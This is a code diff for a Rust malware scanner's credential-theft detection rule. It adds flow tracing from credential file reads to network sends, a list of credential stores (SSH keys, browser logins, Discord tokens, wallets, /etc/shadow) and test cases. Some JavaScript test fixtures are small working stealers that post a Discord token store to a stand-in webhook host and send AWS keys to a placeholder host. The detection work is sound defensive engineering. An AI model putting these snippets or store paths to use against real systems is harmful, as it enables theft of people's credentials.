@@ -1,7 +1,10 @@
 //! `code/credential-theft`.
 
-use super::{SENDS, chain, finding, locality, per_signal};
+use super::{
+    SENDS, chain, describe, exfil_destination, finding, flow_finding, flows, locality, per_signal,
+};
 use crate::CodeFinding;
+use crate::flow::{FlowPath, SinkKind, SourceKind};
 use crate::signal::{FileFacts, Kind, PackageFacts, Signal};
 use crate::verdict::Locality;
 use diligence_finding::Severity;
@@ -11,9 +14,16 @@ diligence_finding::declare_rule! {
     /// Code reads credential stores (npm, SSH, cloud, Docker, Kubernetes, browser profiles, wallets) in a package that can send data.
     ///
     /// ## What it detects
-    /// Credential paths (`.npmrc`, `.ssh/id_*`, `.aws/credentials`, `.docker/config.json`, `.kube/config`, browser
-    /// `Local Storage/leveldb` and `Login Data`, wallet files) or `.env` files read in a package with a network
-    /// sink; strongest when the read and the send share a file or function.
+    /// A value-flow path from a credential store's content to a network or DNS send: a file read whose path
+    /// names a store (`.npmrc`, `.ssh/id_*`, `.aws/credentials`, `.docker/config.json`, `.kube/config`,
+    /// `.git-credentials`, `.env`, browser profiles — Chromium `Login Data`/`Cookies`/`Local Storage/leveldb`,
+    /// Firefox `logins.json`/`key4.db` —, Discord/Telegram token stores, wallets, shell history), the path
+    /// built however (`path.join(home, f)` over a list, a directory listing), the content followed through
+    /// variables, encoders, functions, callbacks and modules to the send. Critical for stores no legitimate
+    /// package sends (keys, browser data, chat tokens, wallets), for two stores, or for a DNS or
+    /// exfiltration-style destination; high for one service store sent to a hard-coded host; medium when the
+    /// destination is not constant. Without a complete path: credential paths read in a package with a network
+    /// sink, strongest when the read and the send share a file or function.
     ///
     /// ## Why it matters
     /// Stealers (Shai-Hulud, the Discord token grabbers, the hijacked utility releases) read exactly these files and
@@ -32,8 +42,53 @@ diligence_finding::declare_rule! {
     pub static CREDENTIAL_THEFT = { id: "code/credential-theft", severity: Severity::High };
 }
 
-/// One finding per (file, line) of a credential path in a file that reads files or spawns.
+const OUT: &[SinkKind] = &[SinkKind::Network, SinkKind::Dns];
+
+/// Stores whose content no legitimate package sends anywhere.
+const PRIVATE_STORES: &[&str] = &[
+    "ssh", "browser", "wallet", "gpg", "chat", "history", "keychain", "system",
+];
+
+/// One finding per path from a credential read to a send.
+fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
+    super::one_per_sink(paths_all(p))
+}
+
+fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
+    let stores: BTreeSet<String> = flows(p, &[SourceKind::Credential], OUT)
+        .map(|f| store_of(&f.from.what))
+        .collect();
+    flows(p, &[SourceKind::Credential], OUT)
+        .take(20)
+        .map(|path: &FlowPath| {
+            let store = store_of(&path.from.what);
+            let sev = if PRIVATE_STORES.contains(&store.as_str())
+                || stores.len() >= 2
+                || path.sink == SinkKind::Dns
+                || exfil_destination(path.dest.as_deref())
+            {
+                Severity::Critical
+            } else if path.dest.as_deref().is_some_and(|d| !owner_host(&store, d)) {
+                // A service's token sent to a hard-coded host that is not the service.
+                Severity::High
+            } else {
+                Severity::Medium
+            };
+            flow_finding(
+                &CREDENTIAL_THEFT,
+                sev,
+                p,
+                path,
+                format!("credential store ({store}) is sent out: {}", describe(path)),
+            )
+        })
+        .collect()
+}
+
+/// One finding per path from a credential read to a send, and one per (file, line) of a
+/// credential path in a file that reads files or spawns.
 pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
+    let traced = paths(p);
     // One credential store read by a networking package is what its own SDK does (a cloud SDK
     // reading `~/.aws/credentials`); several stores, or one store next to an exfiltration
     // ingredient (suspicious endpoint, env dump, hidden or obfuscated code), is a stealer. In a
@@ -54,7 +109,7 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
                 .any(|k| p.all(*k).any(|(of, o)| near(of, o)))
     };
     let mut out = per_signal(p, Kind::CredentialPath, |f, s| {
-        if !f.has(Kind::FsRead) && !f.has(Kind::Spawn) {
+        if !f.has(Kind::FsRead) && !f.has(Kind::Spawn) || super::traced(&traced, f, s) {
             return None;
         }
         let loc = locality(p, f, s, SENDS);
@@ -85,7 +140,7 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
         // Build tools and dev servers load `.env` files and, elsewhere, talk to the network;
         // only a `.env` name next to a send in one function is reported.
         let loc = locality(p, f, s, SENDS);
-        if loc < Locality::Function || !f.has(Kind::FsRead) {
+        if loc < Locality::Function || !f.has(Kind::FsRead) || super::traced(&traced, f, s) {
             return None;
         }
         let msg = format!(
@@ -102,7 +157,9 @@ pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
             chain(p, f, s, &[Kind::FsRead, Kind::Network]),
         ))
     }));
-    out
+    let mut all = traced;
+    all.append(&mut out);
+    all
 }
 
 const CORROBORATION: &[Kind] = &[
@@ -117,6 +174,23 @@ const CORROBORATION: &[Kind] = &[
     Kind::ReverseShell,
     Kind::EnvSecretFilter,
 ];
+
+/// True when `dest` belongs to the service that issued the store's credential (an npm
+/// token to a registry, AWS keys to `amazonaws.com`).
+fn owner_host(store: &str, dest: &str) -> bool {
+    let d = dest.to_ascii_lowercase();
+    let owners: &[&str] = match store {
+        "npm" => &["npmjs", "yarnpkg", "registry", "npm."],
+        "aws" => &["amazonaws.com", "aws."],
+        "docker" => &["docker"],
+        "git" => &["github", "gitlab", "bitbucket"],
+        "gcloud" => &["googleapis.com", "google.com"],
+        "azure" => &["azure", "microsoft", "windows.net"],
+        "pypi" => &["pypi", "python.org"],
+        _ => &[],
+    };
+    owners.iter().any(|o| d.contains(o))
+}
 
 /// The credential store a path names (`.ssh/id_rsa` and `id_rsa` are both `ssh`).
 fn store_of(detail: &str) -> String {
@@ -145,6 +219,24 @@ fn store_of(detail: &str) -> String {
         ("solana", "wallet"),
         ("keystore", "wallet"),
         ("gnupg", "gpg"),
+        ("cookies", "browser"),
+        ("web data", "browser"),
+        ("logins.json", "browser"),
+        ("key4.db", "browser"),
+        ("key3.db", "browser"),
+        ("formhistory", "browser"),
+        ("discord", "chat"),
+        ("tdata", "chat"),
+        ("slack", "chat"),
+        ("telegram", "chat"),
+        ("history", "history"),
+        ("keychain", "keychain"),
+        ("/etc/shadow", "system"),
+        ("/etc/passwd", "system"),
+        ("gcloud", "gcloud"),
+        ("application_default_credentials", "gcloud"),
+        ("azure", "azure"),
+        (".env", "dotenv"),
     ];
     stores
         .iter()
@@ -167,12 +259,53 @@ mod tests {
         ]);
         assert_eq!(
             hits(&s, "code/credential-theft"),
-            vec![("a.js".to_string(), 2)]
+            vec![("a.js".to_string(), 3)]
         );
         assert_eq!(
             s.findings[0].severity,
             diligence_finding::Severity::Critical
         );
+    }
+
+    /// Discord's token store read through a directory listing and posted to a webhook from a
+    /// helper in another module.
+    #[test]
+    fn positive_token_store_listing_to_a_webhook() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst { post } = require('./util');\nconst dir = path.join(process.env.APPDATA || '', 'discord', 'Local Storage', 'leveldb');\nconst found = [];\nfor (const f of fs.readdirSync(dir)) {\n  if (f.endsWith('.ldb')) found.push(fs.readFileSync(path.join(dir, f), 'latin1'));\n}\npost(found.join('\\n'));\n",
+            ),
+            (
+                "util.js",
+                "exports.post = (content) => fetch('https://hooks.example.net/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content }) });\n",
+            ),
+        ]);
+        let f = s
+            .findings
+            .iter()
+            .find(|f| f.rule == "code/credential-theft")
+            .expect("a finding");
+        assert_eq!(
+            (f.file.as_str(), f.line, f.severity),
+            ("util.js", 1, diligence_finding::Severity::Critical)
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A registry client reads `.npmrc` for its token and sends it where its configuration
+    /// says: medium.
+    #[test]
+    fn negative_registry_client_token_to_a_configured_host() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "client.js",
+                "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nmodule.exports = function get(registry, pkg) {\n  const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n  const token = /_authToken=(.*)/.exec(rc)[1];\n  return https.get(registry + pkg, { headers: { authorization: 'Bearer ' + token } });\n};\n",
+            ),
+        ]);
+        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
     }
 
     #[test]
@@ -181,14 +314,23 @@ mod tests {
             ("package.json", PJ),
             (
                 "a.js",
-                "const fs = require('fs'), https = require('https');\nconst c = fs.readFileSync(require('os').homedir() + '/.aws/credentials');\nhttps.request('https://sts.example.com').end(c);\n",
+                "const fs = require('fs'), https = require('https');\nconst c = fs.readFileSync(require('os').homedir() + '/.aws/credentials');\nhttps.request('https://sts.amazonaws.com').end(c);\n",
             ),
         ]);
         assert_eq!(
             hits(&s, "code/credential-theft"),
-            vec![("a.js".to_string(), 2)]
+            vec![("a.js".to_string(), 3)]
         );
         assert_eq!(s.verdict, crate::Verdict::Clean);
+        // The same keys to a hard-coded host that is not AWS.
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "a.js",
+                "const fs = require('fs'), https = require('https');\nconst c = fs.readFileSync(require('os').homedir() + '/.aws/credentials');\nhttps.request('https://keys.example.com').end(c);\n",
+            ),
+        ]);
+        assert_eq!(s.verdict, crate::Verdict::Suspicious);
     }
 
     #[test]
@@ -272,7 +414,7 @@ mod tests {
         ]);
         assert_eq!(
             hits(&s, "code/credential-theft"),
-            vec![("steal.js".to_string(), 3)]
+            vec![("steal.js".to_string(), 4)]
         );
     }
 }
